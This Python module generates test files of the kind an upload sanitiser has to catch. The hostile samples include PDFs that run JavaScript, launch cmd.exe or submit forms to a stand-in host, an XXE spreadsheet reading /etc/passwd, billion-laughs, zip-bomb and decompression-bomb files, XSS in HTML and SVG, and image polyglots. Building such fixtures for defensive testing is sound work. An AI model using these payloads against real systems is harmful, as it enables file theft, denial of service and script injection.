"""Files made to do harm, and honest ones beside them, written by code so that nothing harmful lies in the repository."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from typing import Any

import pikepdf
import xlsxwriter
from PIL import Image

SCRIPT = "<script>alert(document.cookie)</script>"


def picture(kind: str = "JPEG", size: tuple[int, int] = (64, 48), **saved: Any) -> bytes:
    """An honest picture with a few colours."""
    drawn = Image.new("RGB", size, (180, 40, 90))
    drawn.paste((20, 120, 60), (0, 0, size[0] // 2, size[1] // 2))
    written = io.BytesIO()
    drawn.save(written, kind, **saved)
    return written.getvalue()


def photo_with_place() -> bytes:
    """A photo lying on its side that tells where it was taken and who took it."""
    exif = Image.Exif()
    exif[0x0112] = 6  # turn it to the right
    exif[0x013B] = "Ana Canaria"
    place = exif.get_ifd(0x8825)
    place.update({1: "S", 2: (0.0, 57.0, 3.0), 3: "W", 4: (80.0, 42.0, 1.0)})
    return picture(exif=exif, comment=b"casa de Ana Canaria", dpi=(72, 72))


def png_chunk(name: bytes, body: bytes) -> bytes:
    """One piece of a PNG with its sums."""
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png_that_says(width: int, height: int, *, text: bytes = b"") -> bytes:
    """A PNG of a few hundred bytes whose header promises any size."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pieces = [png_chunk(b"IHDR", header)]
    if text:
        pieces.append(png_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(text, 9)))
    pieces += [png_chunk(b"IDAT", zlib.compress(b"\0" * 4000, 9)), png_chunk(b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(pieces)


def pdf(*, pages: int = 1, **catalogue: Any) -> bytes:
    """A PDF with empty pages and whatever is put into its catalogue."""
    book = pikepdf.new()
    for _ in range(pages):
        book.add_blank_page()
    for key, value in catalogue.items():
        book.Root[f"/{key}"] = book.make_indirect(value)
    written = io.BytesIO()
    book.save(written, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return written.getvalue()


def action(kind: str, **more: Any) -> pikepdf.Dictionary:
    """A PDF action of a kind."""
    return pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **more)


def active_pdfs() -> dict[str, bytes]:
    """PDFs that run, start, send or hide something."""
    hidden = pikepdf.Dictionary(
        Names=pikepdf.Array([pikepdf.String("a.exe"), pikepdf.Dictionary(Type=pikepdf.Name("/Filespec"))])
    )
    book = pikepdf.new()
    page = book.add_blank_page()
    link = pikepdf.Dictionary(
        Type=pikepdf.Name("/Annot"), Subtype=pikepdf.Name("/Link"), Rect=[0, 0, 9, 9], A=action("Launch", F="cmd.exe")
    )
    page.Annots = book.make_indirect(pikepdf.Array([link]))
    annotated = io.BytesIO()
    book.save(annotated)
    return {
        "script_on_opening": pdf(OpenAction=action("JavaScript", JS="app.alert(1)")),
        "script_by_name": pdf(Names=pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([])))),
        "script_on_closing": pdf(AA=pikepdf.Dictionary(WC=action("JavaScript", JS="app.alert(1)"))),
        "launch": pdf(OpenAction=action("Launch", F="cmd.exe")),
        "launch_in_link": annotated.getvalue(),
        "sends_form": pdf(OpenAction=action("SubmitForm", F="https://malo.example")),
        "hidden_file": pdf(Names=pikepdf.Dictionary(EmbeddedFiles=hidden)),
        "xfa": pdf(AcroForm=pikepdf.Dictionary(XFA=pikepdf.Array([]), Fields=pikepdf.Array([]))),
        "script_name_escaped": _plain_pdf(b"/OpenAction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>"),
    }


def _plain_pdf(in_catalogue: bytes) -> bytes:
    """A PDF written by hand, so that names can be disguised."""
    bodies = [
        b"<</Type/Catalog/Pages 2 0 R" + in_catalogue + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/Resources<<>>/MediaBox[0 0 9 9]>>",
    ]
    written, places = b"%PDF-1.7\n", []
    for number, body in enumerate(bodies, start=1):
        places.append(len(written))
        written += b"%d 0 obj" % number + body + b"endobj\n"
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer<</Size 4/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % len(written)
    return written + b"xref\n0 4\n0000000000 65535 f \n" + table + end


def signed_pdf() -> bytes:
    """A PDF with the mark of a signature: it must come back byte for byte."""
    return _plain_pdf(
        b"/AcroForm<</Fields[<</FT/Sig/T(s)/V<</Type/Sig/ByteRange[0 1 2 3]/Contents<00>>>>>]/SigFlags 3>>"
    )


def pdf_that_swells(megabytes: int) -> bytes:
    """A small PDF whose page lies in a list of objects that unpacks to so many megabytes."""
    page = b"4 0 <</Type/Page/Parent 2 0 R/Resources<<>>/MediaBox[0 0 9 9]>>"
    body = zlib.compress(page + b" " * (megabytes << 20), 9)
    bodies = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[4 0 R]/Count 1>>",
        b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(body) + body + b"\nendstream ",
    ]
    written, places = b"%PDF-1.7\n", []
    for number, content in enumerate(bodies, start=1):
        places.append(len(written))
        written += b"%d 0 obj" % number + content + b"endobj\n"
    rows = b"\0\0\0\0\0\xff" + b"".join(b"\1" + struct.pack(">I", place) + b"\0" for place in places)
    rows += b"\2" + struct.pack(">I", 3) + b"\0" + b"\1" + struct.pack(">I", len(written)) + b"\0"
    index = b"<</Type/XRef/Size 6/W[1 4 1]/Root 1 0 R/Length %d>>stream\n" % len(rows) + rows + b"\nendstream "
    return written + b"5 0 obj" + index + b"endobj\nstartxref\n%d\n%%%%EOF\n" % len(written)


def workbook() -> bytes:
    """An honest sheet."""
    written = io.BytesIO()
    with xlsxwriter.Workbook(written) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, ["Nombres", "Apellidos"])
        sheet.write_row(1, 0, ["Ana", "Vera"])
    return written.getvalue()


def workbook_with(parts: dict[str, bytes]) -> bytes:
    """The honest sheet with parts added or replaced."""
    written = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(workbook())) as old, zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, content in parts.items():
            new.writestr(name, content)
    return written.getvalue()


def entity_workbooks() -> dict[str, bytes]:
    """Sheets whose XML asks for a file of the server, or swells when it is read."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "ja">' for n in range(10))
    texts = {
        "xxe": '<!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/passwd">]><sst><si><t>&x;</t></si></sst>',
        "billion_laughs": f"<!DOCTYPE sst [{laughs}]><sst><si><t>&l9;</t></si></sst>",
    }
    found = {
        name: workbook_with({"xl/sharedStrings.xml": f'<?xml version="1.0"?>{text}'.encode()})
        for name, text in texts.items()
    }
    wide = ('<?xml version="1.0" encoding="UTF-16"?>' + texts["xxe"]).encode("utf-16")
    return found | {"xxe_utf16": workbook_with({"xl/sharedStrings.xml": wide})}


def zip_bomb() -> bytes:
    """A sheet of a few hundred kilobytes that unpacks to 300 MB."""
    return workbook_with({"xl/worksheets/sheet1.xml": b" " * 300_000_000})


def web_pages() -> dict[str, bytes]:
    """Pages and drawings with programs, disguised."""
    page = f"<html><body>{SCRIPT}</body></html>"
    return {
        "html": page.encode(),
        "html_after_blanks": b"\xef\xbb\xbf\n\n   " + page.encode(),
        "html_utf16": page.encode("utf-16"),
        "svg": f'<svg xmlns="http://www.w3.org/2000/svg">{SCRIPT}</svg>'.encode(),
        "svg_with_prolog": f'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">{SCRIPT}</svg>'.encode(),
        "svg_after_comment": b"a,b\n<!-- x --><svg onload=alert(1)>",
    }


def polyglots() -> dict[str, bytes]:
    """Pictures and papers that are something else too."""
    with_zip = io.BytesIO()
    with zipfile.ZipFile(with_zip, "w") as archive:
        archive.writestr("malo.html", SCRIPT)
    return {
        "picture_and_page": picture() + SCRIPT.encode(),
        "picture_and_zip": picture("PNG") + with_zip.getvalue(),
        "picture_with_page_in_comment": picture(comment=SCRIPT.encode()),
    }
